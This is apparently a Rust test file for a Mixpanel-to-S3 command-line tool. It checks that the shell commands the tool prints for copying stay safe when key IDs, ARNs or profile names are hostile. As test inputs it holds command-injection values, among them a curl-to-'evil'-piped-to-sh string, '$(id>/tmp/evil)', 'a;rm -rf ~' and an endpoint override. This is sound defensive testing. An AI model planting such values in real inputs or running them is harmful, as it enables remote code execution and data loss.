//! What is printed to be copied does what it says and nothing else, whatever an account, a file or a flag is named.

use serde_json::Value;

use crate::support::by_hand::{USER, data, trust};
use crate::support::program::{bare, run};
use crate::support::shell::NOT_SHOWN;
use crate::support::{Cloud, Outcome, Scripted, TOKEN, shell};

/// The ID of a key that is a command, as somebody writes it into a bucket's default encryption.
const EVIL_KEY: &str = "x;curl${IFS}evil|sh;#";
/// An ARN that is one, in its partition.
const EVIL_ARN: &str = "arn:aws$(id>/tmp/evil):kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab";

fn encrypted_with(key: &str) -> Scripted {
    let body = format!(
        "<ServerSideEncryptionConfiguration><Rule><ApplyServerSideEncryptionByDefault><SSEAlgorithm>aws:kms</\
         SSEAlgorithm><KMSMasterKeyID>{}</KMSMasterKeyID></ApplyServerSideEncryptionByDefault></Rule></\
         ServerSideEncryptionConfiguration>",
        key.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
    );
    Scripted::answer("s3", body)
}

/// Everything that a run offers to be copied: what stands between backquotes, after a label, or on a line that begins
/// with a program.
#[track_caller]
fn offered(outcome: &Outcome) -> Vec<String> {
    let mut offered = Vec::new();
    for line in format!("{}\n{}", outcome.stdout, outcome.stderr)
        .replace(" \\\n", " ")
        .lines()
    {
        let parts = line.split('`').skip(1).step_by(2);
        let labelled = line.match_indices(": ").map(|(at, label)| &line[at + label.len()..]);
        let candidates = parts.chain(labelled).chain([line.trim()]);
        offered.extend(
            candidates
                .filter(|text| {
                    ["aws ", "mixpanel-s3 ", "eval "]
                        .iter()
                        .any(|program| text.starts_with(program))
                })
                .map(str::to_owned),
        );
    }
    offered
}

/// Every command that is offered, which a shell reads as plain words.
#[track_caller]
fn commands(outcome: &Outcome) -> Vec<Vec<String>> {
    offered(outcome)
        .iter()
        .flat_map(|line| shell::commands(line).unwrap_or_else(|why| panic!("{why}\n{outcome:?}")))
        .collect()
}

/// All words of them.
#[track_caller]
fn plain_words(outcome: &Outcome) -> Vec<String> {
    commands(outcome).concat()
}

#[track_caller]
fn json_commands(verdict: &Value) -> Vec<Vec<String>> {
    let checks = verdict["checks"].as_array().expect("checks");
    let fixes = checks.iter().flat_map(|check| check["fix"].as_array().expect("fixes"));
    fixes
        .filter_map(|fix| fix["command"].as_str())
        .filter(|command| *command != NOT_SHOWN)
        .flat_map(|command| shell::commands(command).unwrap_or_else(|why| panic!("{why}")))
        .collect()
}

#[test]
fn the_default_key_of_a_bucket_commands_nothing() {
    for key in [EVIL_KEY, EVIL_ARN] {
        let cloud = Cloud::start();
        let bucket = cloud.bucket();
        cloud.bucket_by_hand(&bucket, "eu-west-1");
        cloud.role_by_hand("theirs", &trust(USER, Some(TOKEN)), &[data(&bucket)]);
        cloud.script("s3:GET encryption", None, encrypted_with(key));
        let details = cloud.run(&["print-details"]).exits(0).says("encrypts with");
        assert!(
            !plain_words(&details)
                .iter()
                .any(|word| word == "--kms-key" || word.contains("evil"))
        );
        for more in [&[][..], &["--encryption", "kms"], &["--encryption", "aes"]] {
            let text = cloud.run(&[&["verify", "--verbose"], more].concat());
            plain_words(&text);
            let json = cloud.run(&[&["verify", "--output", "json"], more].concat());
            for words in json_commands(&json.json()) {
                assert!(!words.iter().any(|word| word.contains("evil")), "{words:?}");
            }
            let advice = json.json()["checks"].to_string();
            assert!(!advice.contains(&format!("--kms-key {key}")), "{advice}");
        }
    }
}

#[test]
fn a_key_that_can_be_one_is_offered() {
    let cloud = Cloud::start();
    let bucket = cloud.bucket();
    cloud.bucket_by_hand(&bucket, "eu-west-1");
    let key = cloud.key_by_hand();
    cloud.role_by_hand("theirs", &trust(USER, Some(TOKEN)), &[data(&bucket)]);
    cloud.script("s3:GET encryption", None, encrypted_with(&key));
    let details = cloud.run(&["print-details"]).exits(0);
    assert!(plain_words(&details).contains(&cloud.normalize(&key)));
    let verdict = cloud.run(&["verify", "--output", "json", "--encryption", "kms"]);
    let advice = verdict.json()["checks"].to_string();
    let again = format!(
        "mixpanel-s3 verify --role theirs --bucket acme-xxxxxxxx --encryption kms --kms-key {}",
        cloud.normalize(&key)
    );
    assert!(advice.contains(&again), "{advice}");
}

#[test]
fn the_name_of_a_profile_commands_nothing() {
    for name in [
        "prod$(touch pwned)",
        "two words",
        "it's \"quoted\" `id`",
        "-x",
        "a;rm -rf ~",
        "--endpoint-url=http://evil",
    ] {
        let home = tempfile::tempdir().expect("a directory");
        let profile = format!("--profile={name}");
        let arguments = ["print-details", &profile];
        let outcome = run(bare(&home).args(arguments).env("AWS_REGION", "eu-west-1")).exits(3);
        // A backquote within the name ends the sentence's own.
        if name.contains('`') {
            let json = run(bare(&home).args(arguments).args(["--output", "json"]));
            let hints = json.json_error()["hints"].to_string();
            assert!(hints.contains("aws sso login --profile"), "{hints}");
            continue;
        }
        let words = plain_words(&outcome);
        let joined = format!("--profile={name}");
        assert!(
            words.iter().any(|word| *word == name || *word == joined),
            "{name}: {words:?}"
        );
    }
}

#[test]
fn a_profile_with_a_second_factor_is_quoted_within_eval() {
    let home = tempfile::tempdir().expect("a directory");
    // The SDK takes no odder name from a file.
    let name = "team/prod@eu+1%x:y";
    let config = format!("[profile {name}]\nmfa_serial = arn:aws:iam::123456789012:mfa/me\n");
    std::fs::write(home.path().join("config"), config).expect("written");
    let arguments = ["print-details", "--profile", name];
    let outcome = run(bare(&home).args(arguments).env("AWS_REGION", "eu-west-1")).exits(3);
    let evaluated = offered(&outcome)
        .into_iter()
        .find(|line| line.starts_with("eval "))
        .unwrap_or_else(|| panic!("{outcome:?}"));
    let expected = [
        "aws",
        "configure",
        "export-credentials",
        "--profile",
        name,
        "--format",
        "env",
    ];
    assert_eq!(
        shell::commands(&evaluated),
        Ok(vec![expected.map(str::to_owned).into()])
    );
}

#[test]
fn partitions_are_an_exact_list() {
    let home = tempfile::tempdir().expect("a directory");
    for arn in [
        EVIL_ARN,
        "arn:aws-evil:kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab",
        "arn:aws:kms: eu-west-1 :123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab",
    ] {
        let arguments = [
            "setup",
            "--sandbox",
            "--yes",
            "--bucket",
            "acme",
            "--project-token",
            TOKEN,
        ];
        let more = ["--encryption", "kms", "--kms-key", arn];
        run(bare(&home).args(arguments).args(more))
            .exits(2)
            .says("it has not the form arn:aws:kms:<region>:<account>:key/<id>");
    }
}

/// Runs with the cloud's keys in a profile, and with nothing else that would lead there.
fn run_with_profile(cloud: &Cloud, arguments: &[&str]) -> Outcome {
    let home = tempfile::tempdir().expect("a directory");
    let token = cloud.keys.token.as_ref();
    let credentials = format!(
        "[acme-prod]\naws_access_key_id = {}\naws_secret_access_key = {}\n{}",
        cloud.keys.id,
        cloud.keys.secret,
        token.map_or(String::new(), |token| format!("aws_session_token = {token}\n"))
    );
    std::fs::write(home.path().join("credentials"), credentials).expect("written");
    let mut command = bare(&home);
    command
        .args(arguments)
        .args(["--profile", "acme-prod", "--verbose"])
        .env("AWS_ENDPOINT_URL", cloud.endpoint())
        .env("AWS_REGION", "eu-west-1")
        .env("MIXPANEL_PROJECT_TOKEN", TOKEN);
    run(&mut command)
}

/// Every command of AWS's and ours that a run with a profile offers is for that profile. How many.
#[track_caller]
fn for_the_profile(outcome: &Outcome) -> usize {
    let commands = commands(outcome);
    for words in &commands {
        let named = words
            .windows(2)
            .filter(|pair| pair[0] == "--profile" && pair[1] == "acme-prod");
        assert_eq!(named.count(), 1, "{words:?}\n{outcome:?}");
    }
    commands.len()
}

#[test]
fn what_is_offered_is_for_the_profile_of_this_run() {
    let cloud = Cloud::start();
    let bucket = cloud.bucket();
    let kms = ["--encryption", "kms", "--create-kms-key"];
    let setup = ["setup", "--yes", "--bucket", &bucket];
    let made = run_with_profile(&cloud, &[&setup[..], &kms].concat()).exits(0);
    assert!(for_the_profile(&made) > 0, "the same without questions");
    // Whoever has the role's name can take it: a document to read, to edit and to put back.
    cloud.role_by_hand("open", &trust(USER, None), &[data(&bucket)]);
    let verdict = run_with_profile(&cloud, &["verify", "--role", "open"]).exits(4);
    assert!(for_the_profile(&verdict) >= 2, "{verdict:?}");
    let missing = run_with_profile(&cloud, &["verify", "--role", "open", "--bucket", "acme-gone"]);
    assert!(for_the_profile(&missing) > 0, "{missing:?}");
    let teardown = ["teardown", "--role", &bucket, "--yes"];
    let removed = run_with_profile(&cloud, &teardown).exits(0);
    assert!(for_the_profile(&removed) > 0, "the key's deletion");
}

#[test]
fn what_a_rehearsal_offers_of_this_program_is_for_the_rehearsal() {
    let home = tempfile::tempdir().expect("a directory");
    let rehearse = |arguments: &[&str]| {
        let mut command = bare(&home);
        command
            .args(arguments)
            .arg("--sandbox")
            .env("MIXPANEL_PROJECT_TOKEN", TOKEN);
        run(&mut command)
    };
    let mut ours = 0;
    for arguments in [
        &["print-details"][..],
        &["setup", "--yes", "--bucket", "acme-rehearsal", "--region", "eu-west-1"],
        &["verify", "--bucket", "acme-gone"],
        &["teardown", "--yes"],
        &["verify"],
    ] {
        let outcome = rehearse(arguments);
        let commands = commands(&outcome).into_iter();
        for words in commands.filter(|words| words[0] == "mixpanel-s3") {
            let named = words.iter().filter(|word| *word == "--sandbox");
            assert_eq!(named.count(), 1, "{words:?}\n{outcome:?}");
            ours += 1;
        }
    }
    assert!(ours >= 4, "{ours}");
}
